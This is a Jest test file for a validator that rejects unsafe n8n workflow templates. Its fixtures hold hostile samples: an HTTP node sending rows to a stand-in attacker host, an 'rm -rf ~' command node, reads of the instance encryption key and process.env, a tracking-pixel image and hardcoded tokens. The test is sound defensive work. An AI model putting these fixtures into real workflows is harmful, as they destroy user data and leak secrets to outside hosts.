import { NODE_RULES, templateHarms, WORKFLOW_RULES } from '../../scripts/verify/templateRules';

const FILE = 'workflows/bad.json';
const ACTION = 'n8n-nodes-maintenance-management.maintenanceManagement';
const TRIGGER = 'n8n-nodes-maintenance-management.maintenanceManagementTrigger';

type Node = { name: string; type: string; parameters: Record<string, unknown> } & Record<
	string,
	unknown
>;
const node = (name: string, type: string, parameters = {}, settings = {}): Node => ({
	name,
	type,
	typeVersion: 1,
	position: [0, 0],
	parameters,
	...settings,
});
const to = (...names: string[]) => names.map((name) => ({ node: name, type: 'main', index: 0 }));
/** A workflow of a manual trigger and `nodes`, the first of them after the trigger. */
const workflow = (nodes: Node[], connections: object = {}, extra: object = {}) => ({
	name: 'Bad',
	nodes: [node('Start', 'n8n-nodes-base.manualTrigger'), ...nodes],
	connections: { Start: { main: [to(nodes[0]?.name ?? 'Start')] }, ...connections },
	settings: { executionOrder: 'v1' },
	...extra,
});

const CREATE_MATERIAL = { resource: 'material', operation: 'create', name: '={{ $json.name }}' };
const PACKAGE_CALL = {
	url: 'https://api.example.com/v3/failures/1',
	authentication: 'predefinedCredentialType',
	nodeCredentialType: 'maintenanceManagementApi',
};

/** Per rule, a smallest template that breaks it, and the refusal. */
const HOSTILE: Array<[rule: string, template: object, refusal: string]> = [
	[
		'HTTP Request without the package credential',
		workflow([
			node('Send Rows', 'n8n-nodes-base.httpRequest', {
				method: 'GET',
				url: '={{ $json.target }}',
				authentication: 'none',
			}),
		]),
		`${FILE}: node "Send Rows" is an HTTP Request without the package's API credential (Predefined Credential Type → Maintenance Management API): it could send the rows anywhere`,
	],
	[
		'outside URL',
		workflow([
			node('Send Rows', 'n8n-nodes-base.httpRequest', {
				...PACKAGE_CALL,
				url: '=https://rows.attacker.io/collect?id={{ $json.id }}',
			}),
		]),
		`${FILE}: node "Send Rows" sends to a URL of another host: a template names only placeholder hosts (api.example.com) and loopback`,
	],
	[
		'command',
		workflow([node('Clean Up', 'n8n-nodes-base.executeCommand', { command: 'rm -rf ~' })]),
		`${FILE}: node "Clean Up" runs a command on a machine (Execute Command, SSH): a template runs none`,
	],
	[
		'environment',
		workflow([
			node('Keys', 'n8n-nodes-base.set', {
				assignments: { assignments: [{ name: 'key', value: '={{ $env.N8N_ENCRYPTION_KEY }}' }] },
			}),
		]),
		`${FILE}: node "Keys" reads the environment ($env or process.env), which holds the instance's secrets`,
	],
	[
		'unprotected trigger',
		{
			name: 'Bad',
			nodes: [node('Events', TRIGGER, { events: ['FAILURE_CREATED'], authentication: 'none' })],
			connections: {},
		},
		`${FILE}: node "Events" turns the trigger's Protection off: anyone who knows its URL could start the workflow; keep a secret (Protection: query, header or basic auth)`,
	],
	[
		'retried write',
		workflow([node('Create Material', ACTION, CREATE_MATERIAL, { retryOnFail: true })]),
		`${FILE}: node "Create Material" writes with Retry On Fail on: a try whose outcome is unknown may have been written, and a retry writes it again; turn Retry On Fail off`,
	],
	[
		'error output back into the write',
		workflow(
			[
				node('Create Material', ACTION, CREATE_MATERIAL, { onError: 'continueErrorOutput' }),
				node('Wait', 'n8n-nodes-base.wait', { amount: 5 }),
			],
			{
				'Create Material': { main: [[], to('Wait')] },
				Wait: { main: [to('Create Material')] },
			},
		),
		`${FILE}: node "Create Material" sends its failed rows back into itself: a row whose outcome is unknown may have been written, and is written again; send failed rows to a person to check`,
	],
	[
		'unknown outcome re-sent',
		workflow(
			[
				node('Outcome Unknown?', 'n8n-nodes-base.if', {
					conditions: {
						conditions: [
							{
								leftValue: '={{ $json.error.outcome }}',
								rightValue: 'unknown',
								operator: { type: 'string', operation: 'equals' },
							},
						],
					},
				}),
				node('Send Again', ACTION, CREATE_MATERIAL),
			],
			{ 'Outcome Unknown?': { main: [to('Send Again'), []] } },
		),
		`${FILE}: node "Outcome Unknown?" leads rows by the outcome "unknown" to a write: such a row may have been written, and sending it again writes it twice; send it to a person to check`,
	],
	[
		'remote image',
		workflow([
			node('Note', 'n8n-nodes-base.stickyNote', {
				content: '## Welcome\n![logo](https://cdn.attacker.io/pixel.png?who=you)',
			}),
		]),
		`${FILE}: node "Note" shows an image from another host: opening the workflow fetches it, telling that host who opened it; leave it out`,
	],
	[
		'token in code',
		workflow([
			node('Rows', 'n8n-nodes-base.code', {
				jsCode: "const token = 'tk-81ac02f9';\nreturn [{ json: { token } }];",
			}),
		]),
		`${FILE}: node "Rows" holds what looks like a token in its code: leave it out, a credential holds it`,
	],
	[
		'any caller',
		workflow([node('Open', 'n8n-nodes-base.noOp')], {}, { settings: { callerPolicy: 'any' } }),
		`${FILE} lets any workflow call it (settings.callerPolicy "any"): leave callerPolicy out, n8n then allows only workflows of the same owner`,
	],
	[
		'error workflow',
		workflow([node('Open', 'n8n-nodes-base.noOp')], {}, { settings: { errorWorkflow: '42' } }),
		`${FILE} sends its errors to another workflow (settings.errorWorkflow), one of the instance it came from: leave it out`,
	],
	[
		'pinned data',
		workflow([node('Open', 'n8n-nodes-base.noOp')], {}, { pinData: {} }),
		`${FILE} holds pinData: remove it; pinned data is rows of the instance it came from, and may hold tokens`,
	],
];

describe('a template that does what no template may', () => {
	it('has a case here for every rule', () => {
		expect(HOSTILE.map(([rule]) => rule)).toEqual(
			[...NODE_RULES, ...WORKFLOW_RULES].map((rule) => rule.name),
		);
	});

	it.each(HOSTILE)(
		'%s: refused, naming the template, the node and the reason',
		(_rule, template, refusal) => {
			expect(templateHarms(FILE, template)).toEqual([refusal]);
		},
	);

	it.each([
		['a host of its own', { url: 'https://x.attacker.io' }],
		['a host that starts like a placeholder', { url: 'https://api.example.com.attacker.io/v3' }],
		['a host that an expression gives', { url: '=https://{{ $json.host }}/v3' }],
	])('refuses an outside URL with %s', (_how, parameters) => {
		const harms = templateHarms(
			FILE,
			workflow([node('Call', 'n8n-nodes-base.httpRequest', { ...PACKAGE_CALL, ...parameters })]),
		);
		expect(harms).toContain(
			`${FILE}: node "Call" sends to a URL of another host: a template names only placeholder hosts (api.example.com) and loopback`,
		);
	});

	it.each([
		[
			'process.env in a Code node',
			node('Rows', 'n8n-nodes-base.code', { jsCode: 'return [{ json: process.env }];' }),
		],
		['an SSH node', node('Remote', 'n8n-nodes-base.ssh', { command: 'id' })],
		[
			'an <img> in a sticky note',
			node('Note', 'n8n-nodes-base.stickyNote', { content: '<img src="//cdn.attacker.io/p.gif">' }),
		],
		[
			'a bearer token in a Code node',
			node('Rows', 'n8n-nodes-base.code', { jsCode: "const h = 'Bearer 9f8e7d6c5b4a';" }),
		],
		[
			'a retried HTTP write',
			node(
				'Post',
				'n8n-nodes-base.httpRequest',
				{ ...PACKAGE_CALL, method: 'POST' },
				{ retryOnFail: true },
			),
		],
		[
			'a Protection from an expression',
			node('Events', TRIGGER, { authentication: '={{ "none" }}' }),
		],
	])('refuses %s', (_what, hostile) => {
		expect(templateHarms(FILE, workflow([hostile]))).toHaveLength(1);
	});

	it('passes what is close to each but harmless', () => {
		const harmless = workflow(
			[
				node('Read', 'n8n-nodes-base.httpRequest', PACKAGE_CALL, { retryOnFail: true }),
				node(
					'Open Work Orders',
					ACTION,
					{ resource: 'failure', operation: 'getAllOpen' },
					{ retryOnFail: true },
				),
				node('Create Material', ACTION, CREATE_MATERIAL, { onError: 'continueErrorOutput' }),
				node('Not Sent?', 'n8n-nodes-base.if', {
					leftValue: '={{ $json.error.outcome }}',
					rightValue: 'notSent',
				}),
				node('Send Fixed Rows', ACTION, CREATE_MATERIAL),
				node('Check By Hand', 'n8n-nodes-base.noOp'),
				node('Events', TRIGGER, { authentication: 'query', parameterName: 'token' }),
				node('Note', 'n8n-nodes-base.stickyNote', {
					content:
						'See [the docs](https://docs.n8n.io) and http://localhost:5678; ![local](data:image/png;base64,AAAA)',
				}),
				node('Rows', 'n8n-nodes-base.code', {
					jsCode: 'return [{ json: { code: "ERP-1001", name: "Hex bolt M8" } }];',
				}),
			],
			{
				Read: { main: [to('Open Work Orders')] },
				'Create Material': { main: [to('Check By Hand'), to('Not Sent?')] },
				'Not Sent?': { main: [to('Send Fixed Rows'), to('Check By Hand')] },
			},
			{
				settings: {
					executionOrder: 'v1',
					callerPolicy: 'workflowsFromSameOwner',
					errorWorkflow: '',
				},
			},
		);
		expect(templateHarms(FILE, harmless)).toEqual([]);
	});

	it('refuses what is no JSON object', () => {
		expect(templateHarms(FILE, [])).toEqual([`${FILE} is no workflow: it holds no JSON object`]);
	});
});
